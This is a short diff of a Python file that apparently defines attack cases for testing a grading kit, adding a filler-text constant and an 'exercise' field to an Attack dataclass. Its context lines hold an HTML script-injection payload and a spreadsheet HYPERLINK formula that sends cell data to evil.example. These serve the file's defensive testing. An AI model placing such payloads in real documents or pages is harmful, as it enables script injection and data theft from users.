@@ -16,6 +16,7 @@ from grading_kit import MACHINE, STAMP
 HARM = '<img src=x onerror="window.HARMED = 1"><script>window.HARMED = 1</script><style>body{display:none}</style>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'
 WEAK = "AI work"
+FILLER = f"{WEAK}\nThese words say nothing at all, and nobody learns from them.\nNor does anybody from these."
 # What a page may hold; the rest of HTML acts, loads or hides.
 _TAGS = {
     "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "h3", "p", "small", "strong", "span", "code",
@@ -62,6 +63,7 @@ class Attack:
     act: Callable[[Scene, Path], None]
     says: str = ""  # the code of the problem that the report names
     words_only: bool = False  # nothing is odd but what is written in an answer: the rubric judges that
+    exercise: str = "constraint-summary"
     unreadable: bool = False
     stronger: bool = False  # its answers are not the weak ones
     posix: bool = False
